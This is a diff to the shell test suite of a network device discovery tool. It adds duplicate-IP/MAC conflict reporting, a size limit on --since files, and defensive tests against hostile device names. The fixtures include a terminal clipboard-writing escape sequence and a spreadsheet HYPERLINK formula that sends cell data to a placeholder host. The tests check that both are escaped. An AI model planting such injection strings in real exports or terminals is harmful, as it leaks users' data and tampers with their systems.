@@ -103,7 +103,7 @@ check "two adapters: three discovery requests from each adapter, nothing else" \
 check "two adapters: --save wrote the same devices" "$(jq -c '.devices | sort_by(.mac)' both.out)" \
     "$(jq -c '.devices | sort_by(.mac)' first.json)"
 check "two adapters: the device keys" \
-    "mac name ip mask gateway tftp image type uptime_s uptime description adapters" \
+    "mac name ip mask gateway tftp image type uptime_s uptime description adapters conflicts" \
     "$(jq -r '.devices[0] | keys_unsorted | join(" ")' both.out)"
 check "two adapters: types and uptime as numbers" '"static" "dynamic" 5000' \
     "$(jq -r '(.devices | map({(.name): .}) | add) as $d |
@@ -115,15 +115,21 @@ cli one scan --adapter ws1 --format csv --save "$work/no such folder/one.json"
 check "one adapter: exit code (a --save that failed does not change it)" 0 $rc
 check "one adapter: the failed --save is said" 1 "$(grep -c 'not saved' one.err)"
 check "one adapter (by name): only what ws1 hears, CSV" \
-    "mac,name,ip,mask,gateway,tftp,image,type,uptime_s,uptime,description,adapters
-02-00-5e-30-00-02,sw-right,198.18.1.22,255.255.255.0,0.0.0.0,0.0.0.0,,static,4000,0 d 1 h 6 m 40 s,Switch right,198.18.1.1
-02-00-5e-30-00-03,ap-both,198.18.0.23,255.255.0.0,0.0.0.0,0.0.0.0,,dynamic,3000,0 d 0 h 50 m 0 s,Access point,198.18.1.1" \
+    "mac,name,ip,mask,gateway,tftp,image,type,uptime_s,uptime,description,adapters,conflicts
+02-00-5e-30-00-02,sw-right,198.18.1.22,255.255.255.0,0.0.0.0,0.0.0.0,,static,4000,0 d 1 h 6 m 40 s,Switch right,198.18.1.1,
+02-00-5e-30-00-03,ap-both,198.18.0.23,255.255.0.0,0.0.0.0,0.0.0.0,,dynamic,3000,0 d 0 h 50 m 0 s,Access point,198.18.1.1," \
     "$(head -1 one.out; tail -n +2 one.out | sort)"
 check "one adapter: requests only from it" "198.18.1.1 01 3" "$(wire_kinds one)"
 
 cli missing scan --adapter 198.18.7.7
 check "an adapter that does not exist: adapter failure" 2 $rc
 check "an adapter that does not exist: nothing sent" "" "$(cat missing.wire)"
+
+truncate -s 65M huge.json
+cli huge scan --since huge.json
+check "a --since file over 64 MiB: usage error, said, nothing sent" "1 1 " \
+    "$rc $(grep -c 'larger than 64 MiB' huge.err) $(cat huge.wire)"
+rm -f huge.json
 
 # ---- What changed: sw-left renamed, cam-old gone, cam-new new.
 start_sim "$scenarios/cli_two_adapters_later.scn"
@@ -145,8 +151,9 @@ check "since on one adapter: devices behind the other are not scanned, not gone"
     "$(jq -r '.devices[] | select(.change == "gone" or .change == "not scanned") |
         "\(.mac) \(.change)"' since_one.out | sort | paste -sd'|')"
 
-# ---- Texts that attack where they are shown: no device text reaches the terminal as a control
-# character; JSON keeps it exact.
+# ---- Texts that attack where they are shown, and conflicts: no device text reaches the
+# terminal as a control character or a spreadsheet as a formula; JSON keeps it exact; one IP on
+# two devices and one MAC with two records are marked, and the exit code stays 0.
 start_sim "$scenarios/cli_hostile.scn"
 cli hostile scan --adapter ws0 --save hostile.json
 check "hostile texts: exit code" 0 $rc
@@ -155,6 +162,24 @@ check "hostile: the table shows the name's controls as \\xHH" 1 \
 check "hostile: JSON keeps the texts exact" \
     '"\u001b]52;c;aGFja2Vk\u0007" "=HYPERLINK(\"http://x/?\"&B2,\"Firmware update required\")"' \
     "$(jq -c '.devices[0] | .name, .description' hostile.json | tr '\n' ' ' | sed 's/ $//')"
+check "hostile: the conflicts of each device" "02-00-5e-50-00-01 -
+02-00-5e-50-00-02 ip
+02-00-5e-50-00-03 ip
+02-00-5e-50-00-04 mac
+02-00-5e-50-00-05 -
+02-00-5e-50-00-06 -" \
+    "$(jq -r '.devices[] | "\(.mac) \(.conflicts | if length == 0 then "-" else join(" ") end)"' \
+        hostile.json)"
+check "hostile: the table marks the devices in conflict" \
+    "02-00-5e-50-00-02 02-00-5e-50-00-03 02-00-5e-50-00-04" "$(grep -o '^! *02-00-5e-50-00-0.' hostile.out | awk '{print $2}' | tr '\n' ' ' | sed 's/ $//')"
+check "hostile: one summary line of the conflicts" 1 "$(grep -c 'conflicts: 2 .*, 1 ' hostile.err)"
+cli hostile_csv scan --adapter ws0 --format csv
+check "hostile: the CSV's formula cell starts with an apostrophe, conflicts last" 1 \
+    "$(grep -cF ",\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"Firmware update required\"\")\",198.18.0.1," \
+        hostile_csv.out)"
+check "hostile: the CSV's conflicts column" "conflicts ip mac" \
+    "$(head -1 hostile_csv.out | tr ',' '\n' | tail -1) $(grep -c ',ip$' hostile_csv.out |
+        sed 's/^2$/ip/') $(grep -c ',mac$' hostile_csv.out | sed 's/^1$/mac/')"
 cli hostile_set set 02-00-5e-50-00-01 --adapter ws0 --ip 198.18.0.61 --verify-timeout 20
 check "hostile: set accepted and verified" 0 $rc
 check "hostile: set shows the name's and image file name's controls as \\xHH" "1 2" \
